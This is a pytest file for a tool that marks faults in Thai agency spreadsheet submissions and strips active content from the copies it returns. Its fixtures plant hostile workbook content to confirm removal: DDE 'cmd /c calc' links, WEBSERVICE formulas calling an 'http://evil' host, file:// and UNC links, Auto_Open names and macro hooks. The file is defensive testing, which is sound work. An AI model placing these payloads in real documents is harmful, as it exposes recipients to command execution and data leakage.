"""What an agency gets back: faults marked, nothing left that acts, and whatever is lost is said."""

from __future__ import annotations

import io
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.formatting.rule import Rule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from python_calamine import CalamineWorkbook

from ita_xlsx.catalogue import load_framework
from ita_xlsx.cycle.templates import make_form
from ita_xlsx.errors import OutputError
from ita_xlsx.feedback import covering_text, formulas_of, mark_copy
from ita_xlsx.feedback.copied_links import is_web_address
from ita_xlsx.feedback.own_formulas import spelled
from ita_xlsx.feedback.styles import BAD, CAUTION
from ita_xlsx.model.findings import Severity
from ita_xlsx.model.framework import Framework
from ita_xlsx.model.marked_copy import Fault, Letter
from ita_xlsx.model.round_settings import Contact, RoundSettings
from ita_xlsx.model.submission import Submission
from tests.conftest import AGENCY, ISSUED, full_scores, submission_of
from tests.forms import read
from tests.libreoffice.office import Office
from tests.libreoffice.pages import bare, boxes, page_texts

ERROR, WARNING, INFO = Severity
REPORT, SUMMARY = "รายการแก้ไข", "สรุปข้อค้นพบ"
FAULTS = (
    Fault(ERROR, "S201", "คะแนนเกินช่วง 0-100", "กรอกตัวเลข 0 ถึง 100", "IIT", ("D8",), "150"),
    Fault(ERROR, "S202", "ไม่ใช่คะแนน", "พิมพ์เป็นตัวเลข", "EIT", ("D5:D7",), '=HYPERLINK("http://x")'),
    Fault(WARNING, "S205", "ทศนิยมเกินสองตำแหน่ง", "ปัดเศษ", "IIT", ("D9", "D10"), "88.123"),
    Fault(INFO, "S206", "อ่าน «๘๐» เป็น 80", "", "OIT", ("D6",), "๘๐"),
)
LETTER = Letter(
    "ตอบกลับ.xlsx", "สำนักงานทดสอบ & คณะ", "2568", "ยังรับไม่ได้", "58 จาก 61", FAULTS, date(2026, 12, 1),
    date(2026, 12, 30), Contact("ฝ่ายแผน", "02 123 4567"),
)  # fmt: skip
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
IIT = "xl/worksheets/sheet3.xml"
Change = Callable[[bytes], bytes]


def filled(framework: Framework) -> bytes:
    return make_form(framework, RoundSettings(), submission_of(framework, full_scores(framework)), ISSUED)


@pytest.fixture(scope="module")
def form() -> bytes:
    return filled(load_framework(2568))


@pytest.fixture(scope="module")
def ours() -> frozenset[tuple[str, str]]:
    return formulas_of(make_form(load_framework(2568), RoundSettings(), Submission(AGENCY), ISSUED))


@pytest.fixture(scope="module")
def copy(form: bytes, ours: frozenset[tuple[str, str]]) -> bytes:
    return mark_copy(form, LETTER, ours).data


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(content: Mapping[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, xml in content.items():
            archive.writestr(name, xml)
    return buffer.getvalue()


def changed(data: bytes, changes: Mapping[str, Change]) -> bytes:
    """The same workbook with some parts rewritten or added."""
    old = parts(data)
    return zipped(old | {name: change(old.get(name, b"")) for name, change in changes.items()})


def edited(data: bytes, edit: Callable[[Any], None]) -> bytes:
    """The same workbook after some work by openpyxl."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    edit(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def opened(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))


def live(data: bytes) -> set[tuple[str, str, str]]:
    """Every formula with its sheet and cell."""
    return {
        (sheet.title, cell.coordinate, cell.value)
        for sheet in opened(data).worksheets
        for cell in sheet._cells.values()
        if cell.data_type == "f"
    }


def after(old: bytes, new: bytes) -> Change:
    return lambda xml: xml.replace(old, new, 1)


def test_importing_loads_no_workbook_library() -> None:
    script = "import sys, ita_xlsx.feedback\nprint('openpyxl' in sys.modules)"
    told = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
    assert told.stdout.strip() == "False"


@pytest.mark.parametrize(
    ("sheet", "cell", "colour", "words"),
    [
        ("IIT", "D8", BAD, ["ต้องแก้ไข", "คะแนนเกินช่วง", "กรอกตัวเลข"]),
        ("EIT", "D5", BAD, ["ไม่ใช่คะแนน"]),
        ("EIT", "D7", BAD, []),
        ("IIT", "D9", CAUTION, ["ควรตรวจ", "ปัดเศษ"]),
        ("IIT", "D10", CAUTION, ["ควรตรวจ"]),
        ("OIT", "D6", "FFF9D6", []),
    ],
)
def test_faulty_cells_are_marked(copy: bytes, sheet: str, cell: str, colour: str, words: list[str]) -> None:
    marked = opened(copy)[sheet][cell]
    assert marked.fill.fgColor.rgb[2:] == colour
    assert bool(marked.comment) == bool(words)
    for word in words:
        assert word in marked.comment.text


def test_a_mark_lies_over_the_colours_of_our_own_rules(copy: bytes) -> None:
    first = min(
        (rule.priority, str(area.sqref)) for area in opened(copy)["IIT"].conditional_formatting for rule in area.rules
    )
    assert first[1] == "D8"


def test_the_agencys_own_note_is_kept(form: bytes, ours: frozenset[tuple[str, str]]) -> None:
    def note(book: Any) -> None:
        book["IIT"]["D8"].comment = Comment("รอยืนยัน", "สมหญิง")

    text = opened(mark_copy(edited(form, note), LETTER, ours).data)["IIT"]["D8"].comment.text
    assert text.startswith("รอยืนยัน")
    assert "คะแนนเกินช่วง" in text


def test_a_merged_cell_is_marked_at_its_anchor(form: bytes, ours: frozenset[tuple[str, str]]) -> None:
    data = edited(form, lambda book: book["IIT"].merge_cells("D8:E8"))
    letter = replace(LETTER, faults=(replace(FAULTS[0], cells=("E8",)),))
    assert opened(mark_copy(data, letter, ours).data)["IIT"]["D8"].comment is not None


def test_places_that_do_not_exist_are_passed_over(form: bytes, ours: frozenset[tuple[str, str]]) -> None:
    odd = [("ไม่มี", "A1"), ("IIT", "XFE1"), ("IIT", "A0"), ("IIT", "ทุกช่อง"), ("", ""), ("IIT", "A1:XFD1048576")]
    faults = tuple(replace(FAULTS[0], sheet=sheet, cells=(cell,)) for sheet, cell in odd)
    assert len(opened(mark_copy(form, replace(LETTER, faults=faults), ours).data).sheetnames) == 11


def test_the_first_sheet_lists_what_to_do(copy: bytes) -> None:
    book = opened(copy)
    rows = [tuple(cell.value for cell in row[:6]) for row in book[REPORT].iter_rows()]
    assert book.sheetnames[:2] == [REPORT, SUMMARY]
    assert book.active.title == REPORT
    assert [row for row in rows if row[0] in ("1", "2", "3")][:3] == [
        ("1", "ต้องแก้ไข", "IIT", "D8", "150", "คะแนนเกินช่วง 0-100"),
        ("2", "ต้องแก้ไข", "EIT", "D5:D7", '=HYPERLINK("http://x")', "ไม่ใช่คะแนน"),
        ("3", "ควรตรวจ", "IIT", "D9, D10", "88.123", "ทศนิยมเกินสองตำแหน่ง"),
    ]
    links = [cell.hyperlink.location for row in book[REPORT].iter_rows() for cell in row if cell.hyperlink]
    assert links == ["'IIT'!D8", "'EIT'!D5", "'IIT'!D9", "'OIT'!D6"]


def test_the_second_sheet_counts_each_rule(copy: bytes) -> None:
    rows = [tuple(cell.value for cell in row[:3]) for row in opened(copy)[SUMMARY].iter_rows(min_row=5)]
    assert rows == [
        ("S201", "ต้องแก้ไข", "1"), ("S202", "ต้องแก้ไข", "3"), ("S205", "ควรตรวจ", "2"), ("S206", "เพื่อทราบ", "1"),
    ]  # fmt: skip


def test_nothing_to_fix_is_said(form: bytes, ours: frozenset[tuple[str, str]]) -> None:
    letter = replace(LETTER, faults=FAULTS[3:], digits="thai")
    told = " ".join(str(cell.value) for row in opened(mark_copy(form, letter, ours).data)[REPORT] for cell in row)
    assert "ไม่มีรายการที่ต้องแก้ไข" in told
    assert "ต้องแก้ไข ๐ รายการ" in told


@pytest.mark.parametrize("name", ["", "ตอบกลับ - ตรวจแล้ว.xlsx"])
def test_the_covering_text_is_short_and_complete(name: str) -> None:
    text = covering_text(replace(LETTER, faults=FAULTS[:1] * 300), name, ("มาโคร",) * 200)
    assert len(text) <= 1200
    assert "แผ่น IIT ช่อง D8" in text
    assert re.search(r"และอีก \d+ รายการ", text)
    assert "30 ธันวาคม 2569" in text
    assert "02 123 4567" in text
    assert name in text
    assert ("แผ่น «รายการแก้ไข»" in text) == bool(name)


def test_a_bare_letter_still_makes_a_text_and_a_copy(form: bytes) -> None:
    assert covering_text(Letter("x.xlsx")).startswith("ผลการตรวจ")
    assert opened(mark_copy(form, Letter("x.xlsx"), frozenset()).data)[REPORT]["A1"].value


def test_our_formulas_and_their_values_survive(
    framework: Framework, form: bytes, copy: bytes, ours: frozenset[tuple[str, str]]
) -> None:
    assert live(copy) == live(form)
    shown = CalamineWorkbook.from_filelike(io.BytesIO(copy)).get_sheet_by_name("ผลเบื้องต้น")
    before = CalamineWorkbook.from_filelike(io.BytesIO(form)).get_sheet_by_name("ผลเบื้องต้น")
    assert shown.to_python() == before.to_python()
    data = filled(framework)
    assert live(mark_copy(data, LETTER, formulas_of(data)).data) == live(data)


@pytest.mark.parametrize("again", ["openpyxl", "libreoffice"])
def test_our_formulas_and_chart_survive_other_programs(
    again: str, office: Office, form: bytes, ours: frozenset[tuple[str, str]], tmp_path: Path
) -> None:
    source, saved = tmp_path / "form.xlsx", tmp_path / "saved.xlsx"
    source.write_bytes(form)
    saved.write_bytes(edited(form, lambda book: None))
    if again == "libreoffice":
        office.recalculate(source, saved)
    marked = mark_copy(saved.read_bytes(), LETTER, ours)
    assert live(marked.data) == live(form)
    assert marked.lost == ()
    assert [name for name in parts(marked.data) if "/charts/" in name]


def test_print_settings_protection_rules_and_the_stamp_survive(form: bytes, copy: bytes) -> None:
    old, new = opened(form), opened(copy)
    for sheet in old.worksheets:
        other = new[sheet.title]
        assert other.sheet_state == sheet.sheet_state
        assert other.protection.sheet == sheet.protection.sheet
        assert other.print_area == sheet.print_area
        assert other.print_title_rows == sheet.print_title_rows
        assert other.oddHeader.right.text == sheet.oddHeader.right.text
        assert other.freeze_panes == sheet.freeze_panes
        assert len(other.row_breaks.brk) == len(sheet.row_breaks.brk)
        assert {k: d.width for k, d in other.column_dimensions.items()} == {
            k: d.width for k, d in sheet.column_dimensions.items()
        }
        rules = [(str(rule.sqref), rule.type, rule.formula1) for rule in sheet.data_validations.dataValidation]
        assert [(str(r.sqref), r.type, r.formula1) for r in other.data_validations.dataValidation] == rules


def test_a_copy_sent_back_reads_as_the_form(form: bytes, copy: bytes, tmp_path: Path) -> None:
    (tmp_path / "form.xlsx").write_bytes(form)
    (tmp_path / "copy.xlsx").write_bytes(copy)
    first, second = read(tmp_path / "form.xlsx"), read(tmp_path / "copy.xlsx")
    assert first.submission is not None
    assert second.submission is not None
    assert [(a.subject, a.value) for a in second.submission.answers] == [
        (a.subject, a.value) for a in first.submission.answers
    ]


def test_the_same_inputs_give_the_same_bytes(form: bytes, copy: bytes, ours: frozenset[tuple[str, str]]) -> None:
    assert mark_copy(form, LETTER, ours).data == copy
    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert archive.namelist()[0] == "[Content_Types].xml"
        assert b"2026-12-01T00:00:00Z" in archive.read("docProps/core.xml")


def test_a_second_round_takes_the_first_marks_off(form: bytes, copy: bytes, ours: frozenset[tuple[str, str]]) -> None:
    twice = mark_copy(copy, replace(LETTER, faults=FAULTS[2:]), ours)
    book, first = opened(twice.data), opened(form)
    assert book.sheetnames == [REPORT, SUMMARY, *first.sheetnames]
    assert twice.lost == ()
    assert book["IIT"]["D8"].fill.fgColor.rgb == first["IIT"]["D8"].fill.fgColor.rgb
    assert book["IIT"]["D8"].comment is None
    assert book["IIT"]["D9"].comment.text.count("ควรตรวจ") == 1
    assert len(book["EIT"].conditional_formatting) == len(first["EIT"].conditional_formatting)


def test_a_sheet_of_the_agency_with_our_name_is_kept(form: bytes, ours: frozenset[tuple[str, str]]) -> None:
    data = edited(form, lambda book: book.create_sheet(REPORT))
    names = opened(mark_copy(data, LETTER, ours).data).sheetnames
    assert names[:2] == [f"{REPORT} 2", SUMMARY]
    assert names[-1] == REPORT


RELS = "xl/worksheets/_rels/sheet3.xml.rels"
DDE = f'<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
ACTING = {
    "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0",
    "xl/externalLinks/externalLink1.xml": DDE.encode(),
    "xl/connections.xml": f'<connections xmlns="{SHEET}"/>'.encode(),
    "xl/queryTables/queryTable1.xml": f'<queryTable xmlns="{SHEET}"/>'.encode(),
    "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0",
    "xl/activeX/activeX1.xml": b"<ocx/>",
    "xl/ctrlProps/ctrlProp1.xml": b"<formControlPr/>",
    "xl/slicers/slicer1.xml": b"<slicers/>",
    "xl/threadedComments/threadedComment1.xml": b"<ThreadedComments/>",
}  # fmt: skip
LINKS = (
    '<hyperlinks><hyperlink ref="B5" r:id="l1"/><hyperlink ref="B6" r:id="l2"/><hyperlink ref="G7" r:id="l3"/>'
    '<hyperlink ref="B8" location="EIT!A1"/><hyperlink ref="B9" location="[x.xlsx]EIT!A1"/>'
    '<hyperlink ref="G9" r:id="l4"/></hyperlinks>'
)
TARGETS = ("file:///\\\\evil\\s\\x.xlsx", "https://ok.go.th/a?b=1", "\\\\evil\\share", "=cmd|'/c calc'!A1")


def acting_sheet(xml: bytes) -> bytes:
    """The sheet with links of all kinds, and with the value that its sum showed."""
    links = LINKS.replace("r:id", f'xmlns:r="{OFFICE}" r:id').encode()
    shown = re.sub(rb"(<f>SUM\(D5:D6\)</f>)<v\s*(?:/>|></v>)", rb"\1<v>157.5</v>", xml)
    return shown.replace(b"<pageMargins", links + b"<pageMargins", 1)


def hostile(form: bytes) -> bytes:
    """A form with everything in it that could act."""

    def act(book: Any) -> None:
        sheet = book["IIT"]
        sheet["G1"], sheet["G2"] = '=WEBSERVICE("http://evil/")', '=HYPERLINK("file://evil","x")'
        sheet["G3"] = "placeholder"
        sheet["G3"].value, sheet["G3"].data_type = "=1+1", "s"
        sheet["G4"] = "=SUM(D5:D6)"
        rule = DataValidation("custom", formula1='WEBSERVICE("http://evil")')
        rule.add("H1")
        sheet.add_data_validation(rule)
        looks = Rule("expression", formula=['WEBSERVICE("http://evil")=1'])
        sheet.conditional_formatting.add("H2", looks)
        for name, text in (("Auto_Open", "IIT!$A$1"), ("bad", 'CALL("x")'), ("out", "[1]x!$A$1"), ("fine", "IIT!$A$1")):
            book.defined_names[name] = DefinedName(name, attr_text=text)

    data = edited(form, act)
    ties = "".join(
        f'<Relationship Id="l{n}" Type="{OFFICE}/hyperlink" Target="{target}" TargetMode="External"/>'
        for n, target in enumerate(TARGETS, 1)
    )
    rels = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{ties}</Relationships>'
    main = b"openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    added: dict[str, Change] = {name: (lambda _, data=data: data) for name, data in ACTING.items()}  # type: ignore[misc]
    return changed(
        data,
        {
            **added,
            RELS: lambda _: rels.encode(),
            IIT: acting_sheet,
            "[Content_Types].xml": after(main, b"ms-excel.sheet.macroEnabled.main+xml"),
        },
    )


def test_nothing_that_acts_is_left(form: bytes, ours: frozenset[tuple[str, str]]) -> None:
    marked = mark_copy(hostile(form), LETTER, ours)
    content = parts(marked.data)
    allowed = r"\[Content_Types\]\.xml|_rels/\.rels|docProps/\w+\.xml|xl/\w+\.xml|xl/_rels/workbook\.xml\.rels|" + (
        r"xl/(worksheets|drawings|charts|comments|theme)/(_rels/)?\w+\.(xml|xml\.rels|vml)"
    )
    assert [name for name in content if not re.fullmatch(allowed, name)] == []
    outside = [
        found
        for xml in content.values()
        for found in re.findall(rb'<Relationship [^>]*TargetMode="External"[^>]*>', xml)
    ]
    assert len(outside) == 1
    assert b'Target="https://ok.go.th/a?b=1"' in outside[0]
    assert not [
        name for name, xml in content.items() if b"file:" in xml or b"WEBSERVICE" in xml or b"macroEnabled" in xml
    ]
    assert {(sheet, text) for sheet, _, text in live(marked.data)} <= ours


def test_without_the_list_of_ours_they_would_stay(form: bytes) -> None:
    data = hostile(form)
    assert "WEBSERVICE" in str(live(mark_copy(data, LETTER, formulas_of(data)).data))


def test_what_was_taken_out_is_said(form: bytes, ours: frozenset[tuple[str, str]]) -> None:
    told = " ".join(mark_copy(hostile(form), LETTER, ours).lost)
    for word in (
        "มาโคร", "ลิงก์ไปไฟล์อื่น 1", "การเชื่อมต่อข้อมูลภายนอก", "ไฟล์ที่ฝังไว้ 1", "ปุ่มหรือช่องควบคุม 2", "slicer", "สนทนา",
        "สูตรที่ไม่ใช่ของแบบ 3", "สูตรที่ไม่มีผลคำนวณเก็บไว้ 2", "IIT!G1, IIT!G2", "ลิงก์ 4", "ของแบบ 2 ข้อ", "3 ชื่อ",
    ):  # fmt: skip
        assert word in told


def test_foreign_cells_become_plain(form: bytes, ours: frozenset[tuple[str, str]]) -> None:
    book = opened(mark_copy(hostile(form), LETTER, ours).data)
    sheet = book["IIT"]
    assert [sheet[f"G{n}"].value for n in (1, 2, 3, 4, 7, 9)] == [None, None, "=1+1", 157.5, None, None]
    assert (sheet["G3"].data_type, sheet["G3"].quotePrefix) == ("s", True)
    assert sheet["B8"].hyperlink.location == "EIT!A1"
    assert [cell for cell in ("B5", "B9", "G7", "G9") if sheet[cell].hyperlink] == []
    assert list(book.defined_names) == ["fine"]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("https://www.go.th/ก?x=1#y", True),
        ("http://10.0.0.1:8080/", True),
        ("HTTP://www.go.th", True),
        ("https://", False),
        ("https://user:pw@www.go.th/", False),
        ("https://www.go.th/a b", False),
        ("https://www.go.th/\u202egpj", False),
        ("https:\\\\www.go.th", False),
        ("http://[::1", False),
        ("http://a:99999/", False),
        ("ftp://www.go.th", False),
        ("file:///c:/x", False),
        ("javascript:alert(1)", False),
        ("mailto:a@b.go.th", False),
        ("//www.go.th", False),
        ("https://www.go.th/" + "x" * 2080, False),
    ],
)
def test_only_plain_web_addresses_stay_links(text: str, safe: bool) -> None:
    assert is_web_address(text) is safe


@pytest.mark.parametrize(
    ("theirs", "our_own"),
    [
        ("SUM( IIT!D5 , $D$6 )", "=SUM('IIT'!$D$5,D6)"),
        ("F12+0.000000001", "F12+1E-9"),
        ('if(A1="a  $b",1,2)', 'IF(A1="a  $b",1,2)'),
    ],
)
def test_one_formula_has_one_spelling(theirs: str, our_own: str) -> None:
    assert spelled(theirs) == spelled(our_own)


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("'[x.xlsx]IIT'!D5", "IIT!D5"),
        ('"a b"', '"ab"'),
        ("D5", "D6"),
        ('"A"', '"a"'),
        ("1.5", "15"),
        ("A1:B2", "A1,B2"),
    ],
)
def test_other_formulas_have_other_spellings(one: str, other: str) -> None:
    assert spelled(one) != spelled(other)


def strict(data: bytes) -> bytes:
    """As Excel writes "Strict Open XML"."""
    names = (
        (b"schemas.openxmlformats.org/spreadsheetml/2006/main", b"purl.oclc.org/ooxml/spreadsheetml/main"),
        (
            b"schemas.openxmlformats.org/officeDocument/2006/relationships",
            b"purl.oclc.org/ooxml/officeDocument/relationships",
        ),
        (b"schemas.openxmlformats.org/drawingml/2006/", b"purl.oclc.org/ooxml/drawingml/"),
    )
    content = parts(data)
    for old, new in names:
        content = {name: xml.replace(old, new) for name, xml in content.items()}
    return zipped(content)


def prefixed(xml: bytes) -> bytes:
    return re.sub(rb"<(/?)(\w)", rb"<\1x:\2", xml).replace(b"xmlns=", b"xmlns:x=")


def single_quoted(xml: bytes) -> bytes:
    return re.sub(rb'="([^"\']*)"', rb"='\1'", xml)


def ghosts(xml: bytes) -> bytes:
    rows = b"".join(b'<row r="%d" ht="20"><c r="A%d" s="1"/></row>' % (n, n) for n in range(1000, 31_000))
    return xml.replace(
        b"</sheetData>",
        rows + b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t> </t></is></c></row></sheetData>',
    )


def utf16(xml: bytes) -> bytes:
    return xml.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")


COLUMN_MERGE = b'</sheetData><mergeCells><mergeCell ref="H1:H1048576"/></mergeCells>'
VIEWS = b"</sheetData><customSheetViews/><oleObjects/>"


@pytest.mark.parametrize(
    "mangle",
    [
        strict,
        lambda data: changed(data, {IIT: prefixed}),
        lambda data: changed(data, {IIT: single_quoted, "xl/workbook.xml": single_quoted}),
        lambda data: changed(data, {IIT: utf16}),
        lambda data: changed(data, {IIT: ghosts}),
        lambda data: zipped({k: v for k, v in parts(data).items() if k != "xl/styles.xml"}),
        lambda data: changed(data, {"xl/styles.xml": lambda _: b"<styleSheet><fills><fill/></fills></styleSheet>"}),
        lambda data: zipped({name.replace("sheet3", "SHEET3"): xml for name, xml in parts(data).items()}),
        lambda data: changed(data, {IIT: after(b"</sheetData>", COLUMN_MERGE)}),
        lambda data: changed(data, {IIT: after(b"</sheetData>", VIEWS)}),
    ],
    ids=["strict", "prefix", "quotes", "utf16", "ghosts", "no_styles", "bad_styles", "case", "column_merge", "views"],
)  # fmt: skip
def test_what_agencies_send_can_be_marked(
    mangle: Callable[[bytes], bytes], form: bytes, ours: frozenset[tuple[str, str]]
) -> None:
    marked = mark_copy(mangle(form), LETTER, ours)
    before = CalamineWorkbook.from_filelike(io.BytesIO(form)).get_sheet_by_name("IIT").to_python()
    after_ = CalamineWorkbook.from_filelike(io.BytesIO(marked.data)).get_sheet_by_name("IIT").to_python()
    assert [row[: len(before[0])] for row in after_[: len(before)]] == before
    assert live(marked.data) == live(form)
    assert opened(marked.data)["IIT"]["D8"].comment is not None
    assert len(opened(marked.data)["IIT"]._cells) < 6000


def test_values_under_merges_are_said(form: bytes, ours: frozenset[tuple[str, str]]) -> None:
    merged = b'</sheetData><mergeCells count="1"><mergeCell ref="B5:C5"/></mergeCells>'
    data = changed(form, {IIT: after(b"</sheetData>", merged)})
    assert mark_copy(data, LETTER, ours).lost == ("ค่าที่ซ่อนอยู่ใต้เซลล์ที่ผสาน 1 ช่อง ในแผ่น IIT",)


PIXEL = b"\x89PNG\r\n\x1a\n" + bytes(40)
DRAWING = (
    '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{office}">{anchors}</xdr:wsDr>'
)
ANCHOR = "<xdr:absoluteAnchor><xdr:pos/><xdr:ext/>{inside}<xdr:clientData/></xdr:absoluteAnchor>"
PICTURE = (
    '<xdr:pic macro="[0]!run"><xdr:nvPicPr><xdr:cNvPr id="1" name="x"><a:hlinkClick r:id="h"/></xdr:cNvPr>'
    '</xdr:nvPicPr><xdr:blipFill><a:blip r:{how}="{id}"/></xdr:blipFill><xdr:spPr/></xdr:pic>'
)


def test_pictures_are_carried_over_and_what_points_outside_is_not(
    form: bytes, ours: frozenset[tuple[str, str]]
) -> None:
    anchors = [
        PICTURE.format(how="embed", id="p"),
        PICTURE.format(how="link", id="o"),
        PICTURE.format(how="embed", id="e"),
    ]
    drawing = DRAWING.format(office=OFFICE, anchors="".join(ANCHOR.format(inside=anchor) for anchor in anchors))
    ties = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="p" Type="{OFFICE}/image" Target="../media/i.png"/>'
        f'<Relationship Id="e" Type="{OFFICE}/image" Target="../media/i.emf"/>'
        f'<Relationship Id="o" Type="{OFFICE}/image" Target="file:///x.png" TargetMode="External"/>'
        f'<Relationship Id="h" Type="{OFFICE}/hyperlink" Target="file:///x" TargetMode="External"/></Relationships>'
    ).encode()
    data = changed(
        form,
        {
            "xl/drawings/drawing1.xml": lambda _: drawing.encode(),
            "xl/drawings/_rels/drawing1.xml.rels": lambda _: ties,
            "xl/media/i.png": lambda _: PIXEL,
            "xl/media/i.emf": lambda _: b"emf",
        },
    )
    marked = mark_copy(data, LETTER, ours)
    content = parts(marked.data)
    assert marked.lost == ("รูปภาพ 2 รูป",)
    assert [content[name] for name in content if "/media/" in name] == [PIXEL]
    assert not [name for name, xml in content.items() if b"file:" in xml or (b"run" in xml and "drawing1.xml" in name)]


@pytest.mark.parametrize(
    "damage", [lambda data: zipped({"x.xml": b""}), lambda data: changed(data, {IIT: lambda _: b"<a"})]
)
def test_what_cannot_be_copied_is_an_error(
    damage: Callable[[bytes], bytes], form: bytes, ours: frozenset[tuple[str, str]]
) -> None:
    with pytest.raises(OutputError) as caught:
        mark_copy(damage(form), LETTER, ours)
    assert caught.value.code == "C707"


def test_copies_open_and_print_whole(
    printer: Office, form: bytes, ours: frozenset[tuple[str, str]], tmp_path: Path
) -> None:
    many = tuple(replace(FAULTS[2], cells=(f"D{5 + n % 14}",), said=f"ทศนิยมเกินสองตำแหน่ง ที่ {n}") for n in range(60))
    path, pdf = tmp_path / "copy.xlsx", tmp_path / "copy.pdf"
    path.write_bytes(mark_copy(form, replace(LETTER, faults=FAULTS + many), ours).data)
    assert printer.values(path, [("ผลเบื้องต้น", "C5"), (REPORT, "A1")])[1] == "รายการที่ต้องแก้ไขและควรตรวจ"
    for name in (REPORT, SUMMARY):
        assert [pair for pair in printer.row_heights(path, name) if pair[0] < pair[1] - 0.5] == []
    printer.pdf(path, pdf)
    pages = page_texts(pdf)
    for number, page in enumerate(pages, 1):
        assert f"- {number} -" in page
        assert len(page.splitlines()) > 3
    assert bare("สำนักงานทดสอบ & คณะ") in bare(pages[0])
    assert "คะแนนเกินช่วง 0-100" in pages[0]
    assert all(box.right <= 842 and box.bottom <= 842 for box in boxes(pdf))
